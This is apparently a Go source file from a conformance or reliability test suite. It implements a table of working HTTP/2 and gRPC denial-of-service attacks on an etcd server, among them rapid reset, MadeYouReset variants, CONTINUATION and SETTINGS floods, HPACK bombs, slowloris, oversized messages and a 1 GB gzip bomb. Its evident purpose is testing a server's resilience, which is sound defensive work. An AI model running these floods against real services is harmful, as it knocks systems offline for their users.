package attacks

import (
	"bytes"
	"compress/gzip"
	"strings"
	"sync"
	"time"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"cairn.dev/conformance/frames"
)

// attack is one row of the table.
type attack struct {
	name string
	// lines is how many connections do it at once.
	lines int
	// growthMB is by how much the server's memory may grow.
	growthMB int
	// run is one connection's part: it ends with the connection, and is then
	// begun anew, or with the attack.
	run func(a *arena)
}

var (
	getFields   = frames.GRPC("/etcdserverpb.KV/Range")
	putFields   = frames.GRPC("/etcdserverpb.KV/Put")
	watchFields = frames.GRPC("/etcdserverpb.Watch/Watch")

	getBody = frames.Message(&pb.RangeRequest{Key: []byte("data/000001"), Serializable: true})
	// listBody asks for the whole store, without a round through the consensus.
	listBody  = frames.Message(&pb.RangeRequest{Key: []byte{0}, RangeEnd: []byte{0}, Serializable: true})
	watchBody = frames.Message(&pb.WatchRequest{RequestUnion: &pb.WatchRequest_CreateRequest{
		CreateRequest: &pb.WatchCreateRequest{Key: []byte("quiet")},
	}})
	putBody = frames.Message(&pb.PutRequest{Key: []byte("attacked"), Value: make([]byte, 1_000_000)})
)

// attacks is the list; docs/reliability.md says what each is.
var attacks = []attack{
	{"rapid reset of reads", 4, 64, resets(open, getBody, cancel)},
	{"rapid reset of lists", 4, 64, resets(open, listBody, cancel)},
	{"reset before the message", 4, 64, resets(open, nil, cancel)},
	{"MadeYouReset: WINDOW_UPDATE of 0", 4, 64, resets(shut, listBody, func(id uint32) []byte { return frames.Window(id, 0) })},
	{"MadeYouReset: window over 2^31-1", 4, 64, resets(shut, listBody, func(id uint32) []byte {
		return append(frames.Window(id, windowMax), frames.Window(id, windowMax)...)
	})},
	{"MadeYouReset: DATA after the end", 4, 64, resets(shut, listBody, func(id uint32) []byte { return frames.Data(id, true, nil) })},
	// RFC 9113 lets a server ignore it; then these are streams that stay open, at about 1 KB each.
	{"MadeYouReset: depends on itself", 4, 256, resets(shut, listBody, func(id uint32) []byte { return frames.Priority(id, id) })},
	{"MadeYouReset: malformed requests", 4, 64, malformed},

	{"CONTINUATION flood", 4, 64, afterHeaders(frames.Raw(http2.FrameContinuation, 0, 1, junkBlock...))},
	{"CONTINUATION flood, empty", 4, 64, afterHeaders(frames.Raw(http2.FrameContinuation, 0, 1))},
	{"HPACK bomb", 4, 64, hpackBomb},
	{"HPACK bomb, small ones on 10,000 open streams", 4, 256, hpackHoard},

	{"SETTINGS flood", 4, 64, flood(frames.Settings())},
	{"SETTINGS flood, 2,730 in each", 4, 64, flood(frames.Settings(manySettings()...))},
	{"SETTINGS flood, answers not read", 4, 64, deafFlood(frames.Settings())},
	{"SETTINGS that move the windows of 1,000 streams", 4, 64, windowSettings},
	{"PING flood", 4, 64, flood(ping)},
	{"PING flood, answers not read", 4, 64, deafFlood(ping)},
	{"PRIORITY flood", 4, 64, flood(frames.Priority(101, 0))},
	{"empty DATA flood", 4, 64, afterRequest(frames.Data(1, false, nil))},
	{"WINDOW_UPDATE flood", 4, 64, afterRequest(frames.Window(1, 1))},
	{"unknown frames", 4, 64, flood(frames.Raw(0xbb, 0xff, 0, 1, 2, 3))},
	{"DATA of one byte", 4, 64, tinyData},

	{"zero-window readers: 10 x 1,000 lists", 10, 256, zeroWindow},
	{"slow readers: 16 lists, 8 KB each 10 ms", 16, 256, slowReader},
	{"requests without end, answers not read", 4, 64, deafRequests},
	{"slowloris: 1,000 connections, four ways", 4, 64, slowloris},
	{"unfinished messages: 10 x 1,000 of 1 MB", 10, 512, unfinished},
	{"messages of 2 GB", 4, 64, oversized},
	{"gzip bombs of 1 GB", 4, 64, gzipBomb},
	{"10,000 reads at once on one connection", 1, 256, manyReads},
	{"10,000 watches on one connection, again and again", 1, 256, manyWatches},
	{"connections opened and dropped", 4, 64, connects},
}

var (
	ping      = frames.Raw(http2.FramePing, 0, 0, []byte("attacked")...)
	junkBlock = frames.Literals(frames.Field("x", strings.Repeat("y", 16_000)))
	// open lets the server send what it will, shut nothing.
	open = http2.Setting{ID: http2.SettingInitialWindowSize, Val: windowMax}
	shut = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}
)

func cancel(id uint32) []byte { return frames.Reset(id, http2.ErrCodeCancel) }

func manySettings() (settings []http2.Setting) {
	for i := range uint32(frames.BytesMax / 6) {
		settings = append(settings, http2.Setting{ID: 0xf000, Val: i})
	}
	return settings
}

// resets begins requests and has each of them reset, by the client or for what
// it sends behind them.
func resets(window http2.Setting, body []byte, then func(stream uint32) []byte) func(a *arena) {
	return func(a *arena) {
		l := a.connect(window)
		if l == nil {
			return
		}
		defer l.close()
		block := l.prime(getFields, getBody)
		b := newBurst(200, func(id uint32) []byte {
			request := frames.Headers(id, false, block)
			if body != nil {
				request = append(request, frames.Data(id, true, body)...)
			}
			return append(request, then(id)...)
		})
		for l.send(b) {
		}
	}
}

// malformed repeats requests that each are a stream error.
func malformed(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	block := append(frames.Literals(frames.GRPC("/etcdserverpb.KV/Range")...), frames.Literals(frames.Field("connection", "close"))...)
	b := newBurst(200, func(id uint32) []byte {
		return append(frames.Headers(id, false, block), frames.Data(id, true, listBody)...)
	})
	for l.send(b) {
	}
}

// repeat writes a frame without end, many at a time.
func (l *line) repeat(frame []byte) {
	many := bytes.Repeat(frame, max(1, 64<<10/len(frame)))
	for !l.arena.over() && l.write(many) {
	}
}

func flood(frame []byte) func(a *arena) {
	return func(a *arena) {
		if l := a.connect(open); l != nil {
			defer l.close()
			l.repeat(frame)
		}
	}
}

// deafFlood reads nothing of what comes back.
func deafFlood(frame []byte) func(a *arena) {
	return func(a *arena) {
		if l := a.connectDeaf(open); l != nil {
			defer l.drop()
			l.repeat(frame)
		}
	}
}

// afterHeaders floods in the middle of a header block.
func afterHeaders(frame []byte) func(a *arena) {
	return func(a *arena) {
		if l := a.connect(open); l != nil {
			defer l.close()
			l.write(frames.Raw(http2.FrameHeaders, 0, 1, frames.Literals(getFields...)...))
			l.repeat(frame)
		}
	}
}

// afterRequest floods on an open stream.
func afterRequest(frame []byte) func(a *arena) {
	return func(a *arena) {
		if l := a.connect(open); l != nil {
			defer l.close()
			l.write(frames.Headers(1, false, frames.Literals(putFields...)))
			l.repeat(frame)
		}
	}
}

// bombEntry puts a field of 4,000 bytes into the table; index 62 names it.
func bombEntry() []byte {
	return frames.AppendString(frames.AppendString([]byte{0x40}, "x"), strings.Repeat("y", 3_900))
}

// hpackBomb names the entry 16,000 times in each block: 64 MB of header fields.
func hpackBomb(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	first := l.stream()
	l.write(frames.Headers(first, false, append(frames.Literals(getFields...), bombEntry()...)), frames.Data(first, true, getBody))
	block := append(frames.Literals(getFields...), bytes.Repeat([]byte{0xbe}, 16_000)...)
	b := newBurst(1, func(id uint32) []byte {
		return append(frames.Headers(id, false, block), frames.Data(id, true, getBody)...)
	})
	for l.send(b) {
	}
}

// hpackHoard keeps within the limit of a header list, but on many streams whose
// requests never end: 15 x 4 KB for each block of 150 bytes.
func hpackHoard(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	first := l.stream()
	l.write(frames.Headers(first, false, append(frames.Literals(watchFields...), bombEntry()...)))
	block := append(frames.Literals(watchFields...), bytes.Repeat([]byte{0xbe}, 15)...)
	b := newBurst(100, func(id uint32) []byte { return frames.Headers(id, false, block) })
	for range 100 {
		if !l.send(b) {
			return
		}
	}
	l.hold()
}

// hold keeps the connection until it or the attack ends.
func (l *line) hold() {
	for !l.arena.over() && !l.gone.Load() {
		l.arena.pause(10 * time.Millisecond)
	}
}

// windowSettings changes the initial window again and again, which is work for
// each stream that waits for its window.
func windowSettings(a *arena) {
	l := a.connect(shut)
	if l == nil {
		return
	}
	defer l.close()
	b := newBurst(100, request(l.prime(getFields, getBody), listBody))
	for range 10 {
		if !l.send(b) {
			return
		}
	}
	up := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}
	l.repeat(append(frames.Settings(up), frames.Settings(shut)...))
}

func request(block, body []byte) func(id uint32) []byte {
	return func(id uint32) []byte {
		return append(frames.Headers(id, false, block), frames.Data(id, true, body)...)
	}
}

// tinyData sends a put of 1 MB in frames of one byte, within the windows.
func tinyData(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	for !a.over() && !l.gone.Load() {
		id := l.stream()
		if !l.write(frames.Headers(id, false, frames.Literals(putFields...))) {
			return
		}
		const piece = 5_000
		for sent := 0; sent+piece < len(putBody) && int64(sent+piece) < windowDefault; sent += piece {
			var many []byte
			for _, letter := range putBody[sent : sent+piece] {
				many = append(many, frames.Data(id, false, []byte{letter})...)
			}
			if !l.spend(piece) || !l.write(many) {
				return
			}
		}
	}
}

// zeroWindow asks for 1,000 lists and takes them byte by byte.
func zeroWindow(a *arena) {
	l := a.connect(shut)
	if l == nil {
		return
	}
	defer l.close()
	b := newBurst(100, request(l.prime(getFields, getBody), listBody))
	for range 10 {
		if !l.send(b) {
			return
		}
	}
	drip := newBurst(1_000, func(id uint32) []byte { return frames.Window(id, 1) })
	for !a.over() && l.write(drip.bytes) {
		a.pause(100 * time.Millisecond)
	}
}

// slowReader lists the store and reads it little by little.
func slowReader(a *arena) {
	l := a.dial()
	if l == nil {
		return
	}
	defer l.close()
	l.write([]byte(http2.ClientPreface), frames.Settings(open), frames.Window(0, windowMax-windowDefault))
	go l.read(8<<10, 10*time.Millisecond)
	for range 4 {
		id := l.stream()
		l.write(frames.Headers(id, false, frames.Literals(getFields...)), frames.Data(id, true, listBody))
	}
	l.hold()
}

// deafRequests asks and asks, and reads nothing.
func deafRequests(a *arena) {
	l := a.connectDeaf(open)
	if l == nil {
		return
	}
	defer l.drop()
	b := newBurst(200, request(l.prime(getFields, getBody), getBody))
	for l.send(b) {
	}
}

// slowloris keeps 250 connections busy with next to nothing: silent, in the
// middle of the preface, of a header block, of a message.
func slowloris(a *arena) {
	const connections = 250
	var lines []*line
	for i := range connections {
		l := a.dial()
		if l == nil {
			continue
		}
		preface, hello := []byte(http2.ClientPreface), frames.Settings(open)
		switch i % 4 {
		case 1:
			l.write(preface[:12])
		case 2:
			l.write(preface, hello, frames.Raw(http2.FrameHeaders, 0, 1, frames.Literals(getFields...)...))
		case 3:
			l.write(preface, hello, frames.Headers(1, false, frames.Literals(putFields...)), frames.Data(1, false, putBody[:100]))
		}
		go l.read(0, 0)
		lines = append(lines, l)
	}
	for letter := 12; !a.over(); letter++ {
		for i, l := range lines {
			switch i % 4 {
			case 1:
				if letter < 23 {
					l.write([]byte(http2.ClientPreface)[letter : letter+1])
				}
			case 2:
				l.write(frames.Raw(http2.FrameContinuation, 0, 1, 0, 1, 'x', 0))
			case 3:
				l.write(frames.Data(1, false, putBody[100:101]))
			}
		}
		a.pause(time.Second)
	}
}

// unfinished begins 1,000 puts of 1 MB and sends all of each but the end.
func unfinished(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	a.pause(10 * time.Millisecond)
	for range 1_000 {
		id := l.stream()
		if !l.write(frames.Headers(id, false, frames.Literals(putFields...))) {
			return
		}
		most := min(int64(len(putBody)-1), l.streamWindow.Load()-1)
		for sent := 0; sent < int(most); sent += 16_000 {
			piece := putBody[sent:min(sent+16_000, int(most))]
			if !l.spend(len(piece)) || !l.write(frames.Data(id, false, piece)) {
				return
			}
		}
	}
	l.hold()
}

// oversized announces 2 GB and sends as much as it may.
func oversized(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	head := []byte{0, 0x7f, 0xff, 0xff, 0xff}
	for !a.over() {
		id := l.stream()
		if !l.spend(32_005) || !l.write(frames.Headers(id, false, frames.Literals(putFields...)), frames.Data(id, false, head),
			frames.Data(id, false, putBody[:16_000]), frames.Data(id, true, putBody[:16_000])) {
			return
		}
	}
}

// bomb is 1 GB of zeros, packed: 64 members of 16 MB, which are one after the
// other one gzip file.
var bomb = sync.OnceValue(func() []byte {
	var packed bytes.Buffer
	writer := gzip.NewWriter(&packed)
	_, _ = writer.Write(make([]byte, 16<<20))
	_ = writer.Close()
	return frames.Framed(1, bytes.Repeat(packed.Bytes(), 64))
})

// gzipBomb sends it again and again.
func gzipBomb(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	body := bomb()
	fields := append([]hpack.HeaderField{}, putFields...)
	fields = append(fields, frames.Field("grpc-encoding", "gzip"))
	for !a.over() {
		id := l.stream()
		if !l.write(frames.Headers(id, false, frames.Literals(fields...))) {
			return
		}
		for rest := body; len(rest) > 0; {
			piece := rest[:min(16_000, len(rest))]
			rest = rest[len(piece):]
			if !l.spend(len(piece)) || !l.write(frames.Data(id, len(rest) == 0, piece)) {
				return
			}
		}
	}
}

// manyReads asks 10,000 times in one go and waits for the answers.
func manyReads(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	b := newBurst(10_000, request(l.prime(getFields, getBody), getBody))
	for asked := a.tally.Answers.Load(); l.send(b); {
		asked += 10_000
		for a.tally.Answers.Load() < asked && !a.over() && !l.gone.Load() {
			a.pause(time.Millisecond)
		}
	}
}

// manyWatches opens 10,000 watches on streams of their own and gives them all
// up.
func manyWatches(a *arena) {
	l := a.connect(open)
	if l == nil {
		return
	}
	defer l.close()
	block := l.prime(watchFields, watchBody)
	b := newBurst(1_000, func(id uint32) []byte {
		return append(frames.Headers(id, false, block), frames.Data(id, false, watchBody)...)
	})
	gone := newBurst(10_000, cancel)
	for {
		first := l.next
		for range 10 {
			if !l.send(b) {
				return
			}
		}
		a.pause(500 * time.Millisecond)
		l.next = first
		if !l.send(gone) {
			return
		}
	}
}

// connects opens connections, sends one request and is gone.
func connects(a *arena) {
	l := a.dial()
	if l == nil {
		return
	}
	l.write([]byte(http2.ClientPreface), frames.Settings(open), frames.Headers(1, false, frames.Literals(getFields...)),
		frames.Data(1, true, listBody))
	l.drop()
}
